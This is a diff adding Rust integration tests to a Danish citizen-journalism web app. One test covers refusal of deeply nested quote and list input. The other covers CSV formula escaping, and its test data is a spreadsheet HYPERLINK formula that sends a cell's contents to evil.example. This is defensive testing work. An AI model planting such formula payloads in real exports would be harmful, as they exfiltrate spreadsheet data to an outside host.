@@ -883,3 +883,106 @@ async fn one_account_cannot_flood_the_others_with_emails(backend: Backend) {
         "the refused comment was not written"
     );
 }
+
+/// A text nested too deep to clean cheaply is refused with a Danish message by the field and
+/// everything typed kept, in the form, its preview and the live preview; a saved text is
+/// cleaned once and its page shows what was stored.
+async fn a_text_nested_too_deep_is_refused_and_a_saved_one_is_shown_as_stored(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let journalist = account(Role::Journalist).create(app.db()).await;
+    let writer = app.logged_in_as(&journalist).await;
+    let message = "for mange lag inden i hinanden";
+    for deep in [
+        ">".repeat(50_000),
+        "<blockquote>".repeat(8_000),
+        (0..30)
+            .map(|level| format!("{}- punkt\n", "  ".repeat(level)))
+            .collect(),
+    ] {
+        for intent in ["save", "preview"] {
+            let refused = writer
+                .post_multipart(
+                    "/borgerjournalist/indsendelser/ny",
+                    piece_form("Dybt citat", &deep, None, true, intent),
+                )
+                .await;
+            let status = if intent == "save" { 422 } else { 200 };
+            assert_eq!(refused.status, status, "{intent}");
+            assert!(refused.body.contains(message), "{intent}");
+            assert!(refused.body.contains("Dybt citat"), "the title is kept");
+        }
+        let live = writer
+            .request(reqwest::Method::POST, "/borgerjournalist/forhaandsvisning")
+            .header("origin", writer.origin())
+            .body(deep.clone());
+        let live = writer.send(live).await;
+        assert_eq!(live.status, 200);
+        assert!(live.body.contains(message), "{}", live.body);
+        assert!(!live.body.contains("<blockquote>"));
+    }
+    let pieces = app
+        .db()
+        .submissions()
+        .of_author(journalist.id)
+        .await
+        .unwrap();
+    assert!(pieces.is_empty(), "nothing was saved");
+
+    // A text within the bound is saved with its cleaned HTML, which the review shows as stored.
+    let within = format!("{} dybt nok", ">".repeat(10));
+    let sent = writer
+        .post_multipart(
+            "/borgerjournalist/indsendelser/ny",
+            piece_form("Citat", &within, None, true, "send"),
+        )
+        .await;
+    assert_eq!(sent.status, 303, "{}", sent.body);
+    let id = piece_id(&sent);
+    let editor = account(Role::Staff).create(app.db()).await;
+    let staff = app.logged_in_as(&editor).await;
+    let review = format!("/personale/indsendelser/{id}");
+    assert!(staff.get(&review).await.body.contains("<blockquote>"));
+    app::db_run!(app.db(), |pool| {
+        sqlx::query("update submissions set body_html = '<p>gemt som renset</p>' where id = $1")
+            .bind(id)
+            .execute(pool)
+            .await
+            .map(drop)
+    })
+    .unwrap();
+    let page = staff.get(&review).await;
+    assert!(
+        page.body.contains("gemt som renset"),
+        "the stored HTML, not the text cleaned again"
+    );
+}
+
+on_both_backends!(a_text_nested_too_deep_is_refused_and_a_saved_one_is_shown_as_stored);
+
+/// A journalist whose name is a spreadsheet formula appears in the figures' CSV as text that
+/// Excel shows and never runs.
+async fn a_name_that_is_a_formula_is_text_in_the_csv(backend: Backend) {
+    let app = TestApp::spawn(backend).await;
+    let db = app.db();
+    let evil = "=HYPERLINK(\"https://evil.example/?x=\"&A2;\"Åbn\")";
+    let author = account(Role::Journalist).name(evil).create(db).await;
+    let staff = account(Role::Staff).create(db).await;
+    let sent = Utc.with_ymd_and_hms(2025, 3, 4, 10, 0, 0).unwrap();
+    seeded_piece(db, &author, &staff, 0, sent, None).await;
+    let csv = app
+        .logged_in_as(&staff)
+        .await
+        .get_bytes("/personale/tal.csv?aar=2025")
+        .await;
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(&csv[3..]);
+    let names: Vec<String> = reader
+        .records()
+        .map(|record| record.unwrap()[1].to_owned())
+        .collect();
+    assert!(names.contains(&format!("'{evil}")), "{names:?}");
+    assert!(!names.iter().any(|name| name.starts_with('=')), "{names:?}");
+}
+
+on_both_backends!(a_name_that_is_a_formula_is_text_in_the_csv);
